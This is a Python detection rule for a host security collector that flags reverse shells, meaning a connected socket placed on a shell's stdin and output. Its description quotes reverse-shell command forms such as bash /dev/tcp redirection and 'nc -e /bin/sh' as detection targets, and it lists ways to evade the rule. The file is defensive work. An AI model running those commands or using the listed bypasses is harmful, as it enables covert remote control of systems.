# SPDX-License-Identifier: Apache-2.0
"""reverse_shell.socket_stdio: a shell or interpreter reads its stdin from, and writes its output to, a connection."""

from __future__ import annotations

from collections import OrderedDict
from dataclasses import dataclass, field

from collector.detect import Finding, Rule, Severity, State
from collector.enrich.programs import shell_name
from probes.events import Event, Kind, StdioEvent

RULE = Rule(
    id="reverse_shell.socket_stdio",
    category="reverse_shell",
    severity=Severity.CRITICAL,
    description=(
        "An outbound TCP or UDP connection is on a process's stdin and on its stdout or stderr, and the process "
        "is a shell or interpreter (sh, bash, dash, zsh, ksh, busybox sh, python, perl, ruby, php, node, lua, "
        "awk, ...): seen in the kernel when a socket is copied onto fd 0, 1 or 2 (dup2, dup3, dup, "
        "fcntl F_DUPFD) and when a program starts with one there (exec). Catches bash and ksh /dev/tcp and "
        "/dev/udp redirections (`bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p` then `<&5 >&5`), "
        "python/perl/ruby/php/lua one-liners that dup2 the socket onto 0, 1 and 2, `nc -e /bin/sh`, "
        "`busybox nc -e`, and compiled reverse shells that dup2 and exec a shell, whatever the port. The "
        "directions may be split over processes (one reads the socket, its sibling writes it): they are "
        "joined per connection. A program that is not a shell or interpreter started with the connection on "
        "both is high (a program run over a socket). A shell or interpreter started with the connection on its "
        "stdin only is high (`bash < /dev/tcp/h/p`: it runs what the connection sends), on its stdout only "
        "medium. One alert per connection, raised again only at a higher severity: the commands the shell "
        "runs inherit its stdio and raise nothing more. Not alerted: a shell's own dup of a socket onto stdin "
        "only or stdout only (`</dev/tcp/h/22` and `echo > /dev/tcp/h/p` port checks and readiness probes), "
        "a program that is no shell with a socket on one of them (`cat </dev/tcp/h/80`), accepted connections "
        "(inetd, systemd Accept=yes, ucspi tcpserver: the socket's own port has a listener), unconnected "
        "sockets. Known false positives: interactive tools that wire a shell to a connection on purpose "
        "(a web terminal backend that execs the shell on the client socket, `socat tcp:... exec:sh,nofork` "
        "in a lab). Bypasses: a shell relayed through pipes or a pty by another process (that is "
        "reverse_shell.relay), a process that reads commands from the socket and runs them itself without "
        "putting the socket on stdio (an implant), a connection accepted from the attacker (a bind shell: "
        "the port has a listener), io_uring, and a socket passed over a unix socket (SCM_RIGHTS) with no dup."
    ),
    tags=("maturity_stable", "host", "container", "process", "network", "mitre_execution", "T1059", "T1071"),
    consumes=frozenset({Kind.STDIO}),
)

CONNECTIONS_MAX = 4096  # connections remembered (directions seen, alerted): oldest forgotten first
_IN, _OUT = 1, 2


@dataclass(slots=True)
class _Seen:
    directions: int = 0
    alerted: Severity | None = None  # the highest raised on this connection so far
    hows: list[str] = field(default_factory=list)


_RANK = {Severity.MEDIUM: 1, Severity.HIGH: 2, Severity.CRITICAL: 3}


def outbound(event: StdioEvent) -> bool:
    """A connection the process's side opened: TCP connecting or connected with no listener on its own port,
    or a connected UDP socket."""
    if event.proto == "tcp":
        return event.state in ("established", "syn_sent") and not event.inbound
    return event.proto == "udp" and event.state == "established"


def _directions(fds: str) -> int:
    return (_IN if "0" in fds else 0) | (_OUT if "1" in fds or "2" in fds else 0)


def _peer(event: StdioEvent) -> str:
    return f"[{event.daddr}]:{event.dport}" if event.family == "ipv6" else f"{event.daddr}:{event.dport}"


class SocketStdioDetector:
    rule = RULE

    def __init__(self, max_connections: int = CONNECTIONS_MAX) -> None:
        self._seen: OrderedDict[tuple[str, str, int, str, int], _Seen] = OrderedDict()
        self._max = max_connections

    def detect(self, event: Event, state: State) -> list[Finding]:
        if not isinstance(event, StdioEvent) or not outbound(event):
            return []
        key = (event.proto, event.saddr, event.sport, event.daddr, event.dport)
        seen = self._seen.get(key)
        if seen is None:
            seen = self._seen[key] = _Seen()
            while len(self._seen) > self._max:
                self._seen.popitem(last=False)
        self._seen.move_to_end(key)
        seen.directions |= _directions(event.fds)
        seen.hows.append(event.how)
        del seen.hows[:-8]
        proc = state.processes.get(event.tgid)
        args = proc.args if proc else (event.comm,)
        shell = shell_name(proc.exe if proc else None, None, args)
        found = _judge(seen.directions, _directions(event.fds), shell, event.how)
        if found is None or (seen.alerted is not None and _RANK[found[0]] <= _RANK[seen.alerted]):
            return []  # nothing yet (one direction, a helper's dup before its exec), or no worse than raised
        severity, what_it_does = found
        seen.alerted = severity
        what = shell or "a program that is not a shell"
        via = "started with it there" if event.how == "exec" else f"{event.how} of fd {event.oldfd} onto fd {event.fd}"
        summary = (
            f"{event.comm} (pid {event.tgid}, {what}) has a {event.proto.upper()} connection to {_peer(event)} on "
            f"{what_it_does} ({via})"
        )
        evidence = {
            "signature": {
                Severity.MEDIUM: "connected socket on a shell's stdout from its exec",
                Severity.HIGH: "connected socket on a shell's stdin from its exec"
                if shell is not None and seen.directions != _IN | _OUT
                else "connected socket on stdin and stdout/stderr",
                Severity.CRITICAL: "connected socket on stdin and stdout/stderr",
            }[severity],
            "shell": shell,
            "how": event.how,
            "fds": event.fds,
            "hows_seen": list(seen.hows),
            "socket": {
                "proto": event.proto,
                "state": event.state,
                "saddr": event.saddr,
                "sport": event.sport,
                "daddr": event.daddr,
                "dport": event.dport,
            },
            "dev_tcp": any("/dev/tcp/" in a or "/dev/udp/" in a for a in args),
        }
        return [Finding(RULE, event, summary, evidence, severity)]


def _judge(joined: int, now: int, shell: str | None, how: str) -> tuple[Severity, str] | None:
    """The severity, and what the connection does, for directions ``joined`` over the connection's records so
    far and ``now`` in this one; None when it is no finding (yet)."""
    if joined == _IN | _OUT and (shell is not None or how == "exec"):
        if shell is not None:
            return Severity.CRITICAL, "its stdin and output: a reverse shell"
        return Severity.HIGH, "its stdin and output: a program run over a connection"
    if how != "exec" or shell is None:
        return None  # a shell's own dups in one direction are port checks (`</dev/tcp/h/22`) and pushes
    if now & _IN:
        return Severity.HIGH, "its stdin from the start: it runs the commands the connection sends"
    if now & _OUT:
        return Severity.MEDIUM, "its output from the start: what it prints goes to the connection"
    return None
